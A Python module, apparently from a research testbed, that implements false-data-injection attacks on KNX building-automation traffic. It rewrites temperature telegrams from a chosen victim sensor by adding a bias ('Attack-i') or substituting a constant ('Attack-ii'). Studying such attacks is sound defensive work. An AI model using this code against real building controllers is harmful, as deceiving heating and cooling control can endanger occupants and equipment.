#!/usr/bin/env python3
# -*- coding: utf-8 -*-
"""
Falsificadores de temperatura.

Solo actúan sobre GroupWrite con un DPT9 que coincidan con la víctima
(origen y grupo); cualquier otro telegrama sale intacto.
"""

from abc import ABC, abstractmethod
from typing import ClassVar, Optional

from core.registry import Registry, UnknownKind
from knx_codec import GroupAddress, GroupWrite, IndividualAddress, Telegram, carries_dpt9, read_dpt9, rewrite_dpt9

from .errors import AttackError, UnknownFalsifier


class Falsifier(ABC):
    """Clase base de los falsificadores."""

    kind: ClassVar[str] = "base"

    def __init__(
        self,
        value: float = 0.0,
        victim_source: Optional[IndividualAddress] = None,
        victim_group: Optional[GroupAddress] = None,
    ):
        """
        Args:
            value: Parámetro del falsificador (sesgo o valor impuesto, °C)
            victim_source: Sensor víctima; None acepta cualquier origen
            victim_group: Grupo víctima; None acepta cualquier grupo
        """
        if victim_group is not None and victim_group.is_broadcast:
            raise AttackError("La dirección de difusión 0/0/0 no puede ser el grupo víctima")
        self.value = float(value)
        self.victim_source = victim_source
        self.victim_group = victim_group

    @property
    def is_identity(self) -> bool:
        return False

    def matches(self, telegram: Telegram) -> bool:
        if not isinstance(telegram.lsdu, GroupWrite) or not carries_dpt9(telegram):
            return False
        if self.victim_source is not None and telegram.source != self.victim_source:
            return False
        if self.victim_group is not None and telegram.destination != self.victim_group:
            return False
        return True

    @abstractmethod
    def apply_celsius(self, celsius: float) -> float:
        """Valor que verá el controlador cuando el real es `celsius`."""

    def apply(self, telegram: Telegram) -> Telegram:
        if self.is_identity or not self.matches(telegram):
            return telegram
        return rewrite_dpt9(telegram, self.apply_celsius(read_dpt9(telegram)))

    def describe(self) -> str:
        return f"{self.kind}({self.value:g})"


FALSIFIERS: Registry[Falsifier] = Registry(Falsifier, "Falsificador")


@FALSIFIERS.entry("passthrough")
class Passthrough(Falsifier):
    """Reenvía sin tocar nada."""

    kind = "passthrough"

    @property
    def is_identity(self) -> bool:
        return True

    def apply_celsius(self, celsius: float) -> float:
        return celsius


@FALSIFIERS.entry("bias")
class BiasAdd(Falsifier):
    """Suma un sesgo fijo a cada lectura (Attack-i)."""

    kind = "bias"

    @property
    def bias(self) -> float:
        return self.value

    def apply_celsius(self, celsius: float) -> float:
        return celsius + self.value


@FALSIFIERS.entry("override")
class Override(Falsifier):
    """Sustituye cada lectura por un valor constante (Attack-ii)."""

    kind = "override"

    def apply_celsius(self, celsius: float) -> float:
        return self.value


def build_falsifier(
    kind: str,
    value: float = 0.0,
    victim_source: Optional[IndividualAddress] = None,
    victim_group: Optional[GroupAddress] = None,
) -> Falsifier:
    """
    Crea un falsificador a partir de su identificador de configuración.

    Raises:
        UnknownFalsifier: Si `kind` no está registrado
    """
    try:
        return FALSIFIERS.create(kind, value, victim_source, victim_group)
    except UnknownKind as error:
        raise UnknownFalsifier(str(error)) from error
